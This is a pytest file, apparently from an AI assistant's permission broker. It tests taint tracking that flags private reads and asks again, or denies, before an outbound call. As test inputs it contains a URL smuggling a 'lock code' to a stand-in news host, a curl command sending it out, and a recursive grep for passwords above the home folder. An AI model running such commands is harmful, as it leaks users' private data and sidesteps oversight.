"""broker/taint.py: which calls let private data into a turn, which could carry it out, and how
the permission broker asks anew for an outbound call after private data came in.

The calls are prepared by the real tools (file, screen, command, web), built the way a session
builds them, in a scratch home (HOME points into tmp_path). An MCP tool is a Tool with an MCP
manual and a stand-in callable: no server is started, because only its manual and its prepared
call are looked at here (tests/security/test_exfiltration.py runs whole turns).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from broker.audit.redaction import digest
from broker.permissions import (
    Denial,
    DenyPrompter,
    PermissionBroker,
    PermissionRequest,
    PermissionToken,
    PromptDecision,
    Prompter,
    RulePrompter,
)
from broker.session import tool_config
from broker.settings import Settings
from broker.taint import (
    OUTBOUND_AFTER_PRIVATE,
    Egress,
    PrivateSource,
    TurnTaint,
    mcp_network_of,
)
from broker.types import Grant, GrantMode
from tests.support.private_note import NOTE, carries_note
from tests.support.rig import Rig
from tools.manual import Capability, Prepared, Tool, ToolManual, ToolResult
from tools.mcp.config import McpServerConfig
from tools.registry import ToolRegistry, builtin_registry

LEAK_URL = "https://news.example.org/article?id=20240611&utm_source=feed&ref=lock%20code%204471"


@pytest.fixture
def user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "user"
    (home / "Documents").mkdir(parents=True)
    (home / "Documents" / "notes.txt").write_text(NOTE + "\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def scratch(tmp_path: Path) -> Path:
    """A folder outside the home that commands may run in (`tools.command_roots`)."""
    folder = tmp_path / "scratch"
    folder.mkdir()
    return folder


@pytest.fixture
def tools(user: Path, scratch: Path) -> ToolRegistry:
    settings = Settings()
    settings.tools.command_roots = [str(scratch)]
    return builtin_registry(tool_config(user / ".chamberlain", settings))


def prepared(tools: ToolRegistry, name: str, **arguments: Any) -> tuple[Tool, Prepared]:
    tool = tools.get(name)
    assert tool is not None, name
    return tool, tool.prepare(arguments)


def stand_in(name: str, capability: Capability, server: str | None = None) -> Tool:
    """A tool with a real manual and a callable that is never run (only its prepared call is
    looked at): an MCP server's tool, or the screen where this machine has no display."""
    manual = ToolManual(
        name=name,
        description="a stand-in",
        parameters={"type": "object", "properties": {"title": {"type": "string"}}},
        capability=capability,
        category="mcp" if server else "screen",
        source="mcp" if server else "builtin",
        server=server,
    )
    return Tool(manual=manual, run=lambda args: ToolResult(data={}, text=""))


def mcp_tool(capability: Capability, server: str = "notes") -> Tool:
    return stand_in(f"{server}__get_note", capability, server)


# --- what lets private data in --------------------------------------------------------------


def test_reading_a_file_is_private_and_named_from_the_home(tools: ToolRegistry) -> None:
    tool, call = prepared(tools, "file_read", path="~/Documents/notes.txt")
    source = Egress().private_source(tool, call, "call-1")
    assert source == PrivateSource("file", "~/Documents/notes.txt", "call-1")


def test_listing_a_folder_counts_too_because_names_tell(tools: ToolRegistry) -> None:
    tool, call = prepared(tools, "file_list", path="~/Documents")
    source = Egress().private_source(tool, call, "call-2")
    assert source is not None
    assert source.label == "~/Documents"


def test_the_screen_is_private() -> None:
    tool = stand_in("screen_capture", Capability.SCREEN_READ)
    call = tool.prepare({})
    source = Egress().private_source(tool, call, "call-3")
    assert source is not None
    assert (source.kind, source.label) == ("screen", "the screen")


def test_a_command_that_can_see_the_home_is_private_and_one_outside_it_is_not(
    tools: ToolRegistry, scratch: Path
) -> None:
    tool, in_home = prepared(tools, "system_execute", command="ls -la", cwd="~")
    source = Egress().private_source(tool, in_home, "call-4")
    assert source is not None
    assert source.kind == "command"
    assert "`ls -la`" in source.label
    assert "could read ~" in source.label
    _, outside = prepared(tools, "system_execute", command="ls -la", cwd=str(scratch))
    assert Egress().private_source(tool, outside, "call-5") is None
    # A folder that holds the home, named by the command, sees all of it.
    home = Path.home()
    _, above = prepared(tools, "system_execute", command=f"grep -r pw {home.parent}")
    assert Egress().private_source(tool, above, "call-6") is not None


def test_every_mcp_result_is_private_whatever_class_the_tools_name_gives_it() -> None:
    egress = Egress()
    for capability, private in (
        (Capability.MCP_READ, True),
        (Capability.MCP_EXECUTE, True),
        (Capability.MCP_WRITE, True),
    ):
        tool = mcp_tool(capability)
        source = egress.private_source(tool, tool.prepare({"title": "x"}), "c")
        assert (source is not None) is private, capability
    tool = mcp_tool(Capability.MCP_READ)
    label = egress.private_source(tool, tool.prepare({}), "c")
    assert label is not None
    assert label.label == "the result of notes__get_note of MCP server 'notes'"


def test_a_web_page_and_system_status_are_not_private(tools: ToolRegistry) -> None:
    for name, args in (("web_fetch", {"url": LEAK_URL}), ("system_info", {})):
        tool, call = prepared(tools, name, **args)
        assert Egress().private_source(tool, call, "c") is None, name


def test_only_recalled_facts_above_low_taint_the_turn() -> None:
    taint = TurnTaint()
    taint.note_memory(["low", "low"])
    assert not taint.private
    taint.note_memory(["low", "personal", "secret"])
    assert taint.private
    assert "2 remembered facts marked personal or secret" in taint.reason()


# --- what could carry it out ----------------------------------------------------------------


def test_a_web_fetch_sends_its_whole_url(tools: ToolRegistry) -> None:
    tool, call = prepared(tools, "web_fetch", url=LEAK_URL)
    assert Egress().destination(tool, call) == LEAK_URL
    assert call.call_plan is not None
    assert (call.call_plan.url, call.call_plan.method) == (LEAK_URL, "GET")


def test_a_link_for_the_browser_is_outbound(tools: ToolRegistry) -> None:
    tool, call = prepared(tools, "open_url", url=LEAK_URL)
    assert Egress().destination(tool, call) == LEAK_URL


def test_a_command_with_a_network_is_outbound_and_one_without_is_not(tools: ToolRegistry) -> None:
    tool, curl = prepared(tools, "system_execute", command=f"curl -s '{LEAK_URL}'")
    destination = Egress().destination(tool, curl)
    assert destination is not None
    assert LEAK_URL in destination
    _, ls = prepared(tools, "system_execute", command="ls -la")
    assert Egress().destination(tool, ls) is None


def test_file_tools_and_the_screen_send_nothing(tools: ToolRegistry) -> None:
    for name, args in (("file_read", {"path": "~/Documents/notes.txt"}), ("system_info", {})):
        tool, call = prepared(tools, name, **args)
        assert Egress().destination(tool, call) is None, name


def test_an_mcp_tool_is_outbound_unless_its_server_is_known_to_have_no_network() -> None:
    tool = mcp_tool(Capability.MCP_WRITE)
    call = tool.prepare({"title": NOTE})
    assert Egress().destination(tool, call) == json.dumps({"title": NOTE})  # unknown: outbound

    def outbound(**settings: Any) -> bool:
        config = McpServerConfig(command="notes-server", **settings)
        egress = Egress(mcp_network=mcp_network_of({"notes": config}))
        return egress.destination(tool, call) is not None

    assert not outbound()  # sandboxed, no network asked for
    assert not outbound(network=False)
    assert outbound(network=True)
    assert outbound(sandbox=False)  # the person's own rights: their network too
    remote = McpServerConfig(url="http://127.0.0.1:8931/mcp")
    assert Egress(mcp_network=mcp_network_of({"notes": remote})).destination(tool, call)
    # A server the settings do not name (gone since): not known to have none.
    assert Egress(mcp_network=mcp_network_of({})).destination(tool, call) is not None


# --- the turn --------------------------------------------------------------------------------


def test_an_outbound_call_in_a_turn_that_read_nothing_private_is_not_asked_anew(
    tools: ToolRegistry,
) -> None:
    tool, call = prepared(tools, "web_fetch", url=LEAK_URL)
    assert TurnTaint().outbound(Egress(), tool, call) is None


def test_after_a_private_read_an_outbound_call_says_why_and_the_audit_keeps_only_a_digest(
    tools: ToolRegistry,
) -> None:
    taint = TurnTaint()
    read, read_call = prepared(tools, "file_read", path="~/Documents/notes.txt")
    taint.note(Egress().private_source(read, read_call, "call-read"))
    tool, call = prepared(tools, "web_fetch", url=LEAK_URL)
    fresh = taint.outbound(Egress(), tool, call)
    assert fresh is not None
    assert fresh.reason == (
        "this turn has read private data (~/Documents/notes.txt); this request could carry it out"
    )
    assert fresh.audit == {
        "fresh": OUTBOUND_AFTER_PRIVATE,
        "private_kinds": ["file"],
        "private_calls": ["call-read"],
        "destination": digest(LEAK_URL),
    }
    assert not carries_note(json.dumps(fresh.audit))


def test_the_reason_names_three_sources_and_counts_the_rest() -> None:
    taint = TurnTaint()
    for n in range(5):
        taint.note(PrivateSource("file", f"~/f{n}.txt", f"c{n}"))
    taint.note(PrivateSource("file", "~/f0.txt", "c0"))  # the same read twice counts once
    assert "(~/f0.txt; ~/f1.txt; ~/f2.txt; and 2 more)" in taint.reason()


# --- the broker: asked anew ------------------------------------------------------------------


class Person(RulePrompter):
    """Answers every question with `mode` for exactly what was asked, and records it."""

    def __init__(self, mode: GrantMode | None, reason: str = "user") -> None:
        self.mode = mode
        self.reason = reason
        self.asked: list[PermissionRequest] = []

    def decide(self, request: PermissionRequest) -> PromptDecision:
        self.asked.append(request)
        if self.mode is None:
            return PromptDecision(allow=False, reason="user")
        return PromptDecision(allow=True, mode=self.mode, scope=request.scope, reason=self.reason)


def rig_with_web_grant(tool_rig: Callable[..., Rig], prompter: Prompter) -> Rig:
    """The enforcement stack, its person having already allowed news.example.org for the session."""
    rig = tool_rig(prompter=prompter)
    rig.grants.add(
        Grant(
            id="g-web",
            capability=Capability.WEB_ACCESS,
            scope="domain:news.example.org",
            mode=GrantMode.SESSION,
            issued_at=rig.clock.now(),
        )
    )
    return rig


def authorize(broker: PermissionBroker, tools: ToolRegistry, *, tainted: bool) -> object:
    taint = TurnTaint()
    if tainted:
        taint.note(PrivateSource("file", "~/Documents/notes.txt", "call-read"))
    tool, call = prepared(tools, "web_fetch", url=LEAK_URL)
    return broker.authorize(
        tool="web_fetch",
        capability=Capability.WEB_ACCESS,
        arguments={"url": LEAK_URL},
        targets=list(call.targets),
        call_id="call-fetch",
        user_scopes=[],
        risk="moderate",
        fresh=taint.outbound(Egress(), tool, call),
    )


def test_the_session_grant_covers_a_fetch_in_a_turn_that_read_nothing_private(
    tool_rig: Callable[..., Rig], tools: ToolRegistry
) -> None:
    person = Person(GrantMode.SESSION)
    broker = rig_with_web_grant(tool_rig, person).permissions
    token = authorize(broker, tools, tainted=False)
    assert isinstance(token, PermissionToken)
    assert token.grant_id == "g-web"
    assert person.asked == []


def test_after_a_private_read_the_session_grant_is_skipped_and_only_once_is_offered(
    tool_rig: Callable[..., Rig], tools: ToolRegistry
) -> None:
    person = Person(GrantMode.SESSION)  # the person would like "for this session" again
    rig = rig_with_web_grant(tool_rig, person)
    token = authorize(rig.permissions, tools, tainted=True)
    (request,) = person.asked
    assert request.once_only
    assert "this turn has read private data (~/Documents/notes.txt)" in request.reason
    assert isinstance(token, PermissionToken)
    assert token.grant_id != "g-web"
    granted = rig.grants.get(token.grant_id)
    assert granted is not None
    assert granted.mode is GrantMode.ONCE
    assert granted.tool_call_id == "call-fetch"
    (asked,) = [r["data"] for r in rig.events() if r["data"].get("outcome") == "ask"]
    assert asked["fresh"] == OUTBOUND_AFTER_PRIVATE
    assert asked["destination"] == digest(LEAK_URL)
    assert not carries_note(rig.audit_path.read_text())


@pytest.mark.parametrize(
    "prompter",
    [DenyPrompter(), Person(GrantMode.SESSION, reason="rule"), Person(GrantMode.ONCE, "rule")],
    ids=["headless", "a-session-rule", "a-once-rule"],
)
def test_with_nobody_to_see_it_the_outbound_call_is_denied_saying_why(
    tool_rig: Callable[..., Rig], tools: ToolRegistry, prompter: Prompter
) -> None:
    rig = rig_with_web_grant(tool_rig, prompter)
    denial = authorize(rig.permissions, tools, tainted=True)
    assert isinstance(denial, Denial), denial
    assert denial.reason.endswith(
        "this turn has read private data (~/Documents/notes.txt); this request could carry it out"
    )
    assert [g.id for g in rig.grants.live()] == ["g-web"]  # nothing new was granted
